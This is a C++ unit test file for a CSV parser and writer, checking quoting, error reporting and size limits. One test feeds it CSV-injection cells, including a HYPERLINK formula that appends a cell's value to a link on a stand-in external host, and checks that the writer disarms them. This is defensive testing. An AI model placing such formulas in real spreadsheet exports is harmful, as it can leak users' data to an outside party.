#include "core/csv.h"

#include <gtest/gtest.h>

#include <sstream>

namespace phieu {
namespace {

TEST(CsvTest, ReadsQuotedFieldsWithCommasQuotesAndLineBreaks) {
  const auto table = ParseCsv("id,text\r\n1,\"a, b\"\r\n2,\"say \"\"hi\"\"\"\n3,\"two\nlines\"\n",
                              "t.csv");
  ASSERT_TRUE(table.ok()) << table.status().message();
  ASSERT_EQ(table->records.size(), 3u);
  EXPECT_EQ(table->records[0].fields[1], "a, b");
  EXPECT_EQ(table->records[1].fields[1], "say \"hi\"");
  EXPECT_EQ(table->records[2].fields[1], "two\nlines");
  EXPECT_EQ(table->records[2].line, 4);
}

TEST(CsvTest, DropsByteOrderMarkAndTrimsHeader) {
  const auto table = ParseCsv("\xEF\xBB\xBF id , unit\nS1,Phường Đông Hòa\n", "t.csv");
  ASSERT_TRUE(table.ok());
  EXPECT_EQ(table->header, (std::vector<std::string>{"id", "unit"}));
  EXPECT_EQ(table->records[0].fields[1], "Phường Đông Hòa");
}

TEST(CsvTest, SkipsBlankLinesButCountsThem) {
  const auto table = ParseCsv("id\n\nS1\n\nS2\n", "t.csv");
  ASSERT_TRUE(table.ok());
  ASSERT_EQ(table->records.size(), 2u);
  EXPECT_EQ(table->records[1].line, 5);
}

struct BadCsv {
  const char* name;
  const char* text;
  const char* message;
};

class CsvErrorTest : public testing::TestWithParam<BadCsv> {};

TEST_P(CsvErrorTest, NamesFileAndLine) {
  const auto table = ParseCsv(GetParam().text, "list.csv");
  ASSERT_FALSE(table.ok());
  EXPECT_EQ(table.status().message(), GetParam().message);
}

INSTANTIATE_TEST_SUITE_P(
    BadInputs, CsvErrorTest,
    testing::Values(
        BadCsv{"Empty", "", "list.csv:1: the file is empty (a header row is required)"},
        BadCsv{"UnclosedQuote", "id,unit\nS1,\"open\n", "list.csv:2: quoted field is never closed"},
        BadCsv{"StrayQuote", "id,unit\nS1,ab\"c\n",
               "list.csv:2: stray '\"' inside an unquoted field (quote the whole field)"},
        BadCsv{"TextAfterClosingQuote", "id,unit\nS1,\"ab\"c\n", "list.csv:2: unexpected text after a closing '\"'"},
        BadCsv{"WrongFieldCounts", "id,unit\nS1\nS2,U,extra\n",
               "list.csv:2: 1 field(s), but the header has 2\n"
               "list.csv:3: 3 field(s), but the header has 2"},
        BadCsv{"InvalidUtf8", "id,unit\nS1,ok\nS2,\xC3\x28\n", "list.csv:3: invalid UTF-8 (save the file as UTF-8)"}),
    [](const testing::TestParamInfo<BadCsv>& info) { return std::string(info.param.name); });

TEST(CsvTest, ANulByteIsRefusedNamingItsLine) {
  const std::string text = std::string("id,name\nS1,Lan\nS2,Hu") + '\0' + "ng\n";
  const auto table = ParseCsv(text, "frame.csv");
  ASSERT_FALSE(table.ok());
  EXPECT_EQ(table.status().message(),
            "frame.csv:3: a NUL byte: this is not a text file (export the list again as CSV, "
            "UTF-8)");
}

TEST(CsvTest, AFieldOfTenMegabytesIsRefusedNamingItsLine) {
  for (const bool quoted : {false, true}) {
    const std::string big(10 << 20, 'a');
    const std::string field = quoted ? "\"" + big + "\"" : big;
    const auto table = ParseCsv("id,name\nS1,Lan\nS2," + field + "\n", "frame.csv");
    ASSERT_FALSE(table.ok()) << quoted;
    EXPECT_EQ(table.status().message(),
              "frame.csv:3: a field longer than 1 MB: no name or address is that long (a quote "
              "left open?)");
  }
}

TEST(CsvTest, ARecordOfAMillionFieldsIsRefusedNamingItsLine) {
  std::string row = "S1";
  for (int i = 0; i < 1000000; ++i) row += ",x";
  const auto table = ParseCsv("id\n" + row + "\n", "frame.csv");
  ASSERT_FALSE(table.ok());
  EXPECT_EQ(table.status().message(),
            "frame.csv:2: more than 1000 fields in one record: this is not a list phieu reads");
}

TEST(CsvTest, ReportsAtMostTheLimitThenCountsTheRest) {
  std::string text = "a,b\n";
  for (int i = 0; i < 5; ++i) text += "x\n";
  const auto table = ParseCsv(text, "f.csv", 2);
  ASSERT_FALSE(table.ok());
  EXPECT_EQ(table.status().message(),
            "f.csv:2: 1 field(s), but the header has 2\n"
            "f.csv:3: 1 field(s), but the header has 2\n"
            "... and 3 more problem(s)");
}

TEST(CsvTest, WriterQuotesOnlyWhatNeedsIt) {
  std::ostringstream out;
  WriteCsvRecord(out, {"plain", "a,b", "say \"x\"", "line\nbreak", " padded", "Hà Nội"});
  EXPECT_EQ(out.str(), "plain,\"a,b\",\"say \"\"x\"\"\",\"line\nbreak\",\" padded\",Hà Nội\r\n");
}

TEST(CsvTest, WhatTheWriterWritesTheReaderReadsBack) {
  const std::vector<std::string> fields = {"id", "a,b", "q\"q", "x\ny", ""};
  std::ostringstream out;
  WriteCsvRecord(out, fields);
  WriteCsvRecord(out, fields);
  const auto table = ParseCsv(out.str(), "round.csv");
  ASSERT_TRUE(table.ok()) << table.status().message();
  EXPECT_EQ(table->records[0].fields, fields);
}

// Found by fuzz/csv_fuzz.cc (fuzz/corpus/csv/crash-csv-lone-empty-field-round-trip): a record
// whose only field is empty was written as a blank line, which the reader skips.
TEST(CsvTest, ARecordOfOneEmptyFieldIsWrittenQuotedAndReadsBack) {
  const auto table = ParseCsv("\"\"", "crash.csv");
  ASSERT_TRUE(table.ok()) << table.status().message();
  EXPECT_EQ(table->header, std::vector<std::string>{""});
  std::ostringstream out;
  WriteCsvRecord(out, table->header);
  WriteCsvRecord(out, {""});
  EXPECT_EQ(out.str(), "\"\"\r\n\"\"\r\n");
  const auto again = ParseCsv(out.str(), "again.csv");
  ASSERT_TRUE(again.ok()) << again.status().message();
  EXPECT_EQ(again->header, table->header);
  ASSERT_EQ(again->records.size(), 1u);
  EXPECT_EQ(again->records[0].fields, std::vector<std::string>{""});
}

// Cells a spreadsheet would run (OWASP, CSV injection) and what is written for each.
struct HostileCell {
  std::string value, written;
};

TEST(CsvTest, CellsASpreadsheetWouldRunGetALeadingApostropheAndNumbersStayNumbers) {
  const std::vector<HostileCell> cells = {
      {"=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\""},
      {"+84 912 345 678", "'+84 912 345 678"},
      {"+84912345678", "'+84912345678"},
      {"-1+2", "'-1+2"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\tPhường A", "'\tPhường A"},
      {"\r=1", "\"'\r=1\""},
      {"-", "'-"},
      {"'=1", "''=1"},  // an apostrophe already there is kept: the value reads back whole
      {"-3.5", "-3.5"},
      {"12", "12"},
      {"0.875", "0.875"},
      {"Nguyễn Văn A", "Nguyễn Văn A"},
      {"a=b", "a=b"},
      {"'quoted'", "'quoted'"},
      {"", "\"\""},  // alone in its record: quoted, or the record would be a blank line
  };
  for (const HostileCell& c : cells) {
    std::ostringstream out;
    WriteCsvRecord(out, {c.value});
    EXPECT_EQ(out.str(), c.written + "\r\n") << c.value;
  }
}

TEST(CsvTest, ANeutralisedCellReadsBackAsTheValueItWasWrittenFrom) {
  const std::vector<std::string> fields = {"=1+1", "+84 912 345 678", "-1+2", "@SUM(A1)",
                                           "\tx",  "'=1",             "''@a", "'x",
                                           "-3.5",  "'-3.5",           "-",    "plain"};
  std::ostringstream out;
  WriteCsvRecord(out, fields);
  WriteCsvRecord(out, fields);
  const auto table = ParseCsv(out.str(), "round.csv");
  ASSERT_TRUE(table.ok()) << table.status().message();
  EXPECT_EQ(table->records[0].fields, fields);
  for (const std::string& f : fields) EXPECT_EQ(FromSpreadsheetSafeCell(SpreadsheetSafeCell(f)), f);
}

}  // namespace
}  // namespace phieu
